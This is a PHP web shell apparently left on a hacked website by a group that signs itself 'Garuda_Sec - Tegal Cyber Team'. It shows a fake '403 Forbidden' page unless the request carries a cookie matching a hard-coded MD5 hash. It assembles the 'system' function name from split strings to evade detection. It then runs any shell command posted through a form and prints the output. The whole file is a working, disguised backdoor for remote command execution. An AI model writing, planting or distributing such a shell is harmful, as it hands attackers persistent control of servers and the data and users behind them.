<?php
/* Hacked By ./Garuda_Sec - Tegal Cyber Team | Greetz: IndoXploit, Sanjungan Jiwa */
error_reporting(0);
@set_time_limit(0);
$auth = "7c6a180b36896a0a8c02787eeafb0e4c";
if (!isset($_COOKIE['gs']) || md5($_COOKIE['gs']) !== $auth) {
    echo "<title>403 Forbidden</title><h1>Forbidden</h1>";
    exit;
}
$a = "sy" . "st";
$b = "em";
$jalan = $a . $b;
echo "<pre>";
if (isset($_POST['perintah'])) {
    $jalan($_POST['perintah'] . " 2>&1");
}
echo "</pre>";
?>
<html><body style="background:#000;color:#0f0">
<center><h2>Garuda Shell</h2>
<form method="post"><input name="perintah" size="60"><input type="submit" value="Jalankan"></form>
</center></body></html>
